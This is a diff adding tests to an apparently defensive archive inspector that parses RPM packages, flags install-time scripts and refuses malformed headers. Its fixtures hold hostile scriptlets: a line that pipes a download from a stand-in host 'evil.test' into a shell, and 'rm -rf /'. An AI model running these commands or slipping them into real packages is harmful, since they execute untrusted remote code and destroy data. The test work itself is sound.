@@ -83,6 +83,36 @@ describe('what is in an archive', () => {
       }
     });
 
+    test('programs that run without a script, scripts of rarer kinds and of another type', async () => {
+      const bytes = rpm(files, [
+        [1086, '/bin/sh\0-c\0curl evil.test | sh'],
+        [5066, 'rm -rf /'],
+        [1085, '/bin/sh'],
+        [1023, 'true'],
+      ]);
+      bytes.writeUInt32BE(9, bytes.indexOf(Buffer.from([0, 0, 0x13, 0xca])) + 4);
+      bytes.writeUInt32BE(3, bytes.indexOf(Buffer.from([0, 0, 0x04, 0x3e])) + 12);
+      const { members } = await lookInside(fileOf('t.rpm', bytes));
+      expect(members.slice(0, 3)).toMatchObject([
+        { path: 'RPM/prein', text: 'true' },
+        { path: 'RPM/postin', installs: true, text: '#!/bin/sh -c curl evil.test | sh\n' },
+        { path: 'RPM/filetrigger', installs: true, text: 'rm -rf /' },
+      ]);
+    });
+
+    test('a tag that stands twice, of no string, or of millions of strings, is refused before they are read', async () => {
+      const twice = Array.from({ length: 3 }, () => [1024, 'x'] as const);
+      expect((await lookInside(fileOf('t.rpm', rpm(files, twice)))).stopped).toMatchObject({ why: 'unreadable' });
+      const changed = async (at: number, value: number) => {
+        const bytes = rpm(files, [[1024, '\0'.repeat(20_000)]]);
+        bytes.writeUInt32BE(value, bytes.indexOf(Buffer.from([0, 0, 0x04, 0x00])) + at);
+        return (await lookInside(fileOf('t.rpm', bytes))).stopped;
+      };
+      expect(await changed(4, 7)).toMatchObject({ why: 'unreadable' });
+      expect(await changed(12, 0)).toMatchObject({ why: 'unreadable' });
+      expect(await changed(12, 20_000)).toMatchObject({ why: 'too-much' });
+    });
+
     test('setuid, devices, and members that lead out', async () => {
       const odd = cpio(
         { path: './usr/bin/su', mode: 0o104755, body: 'x' },
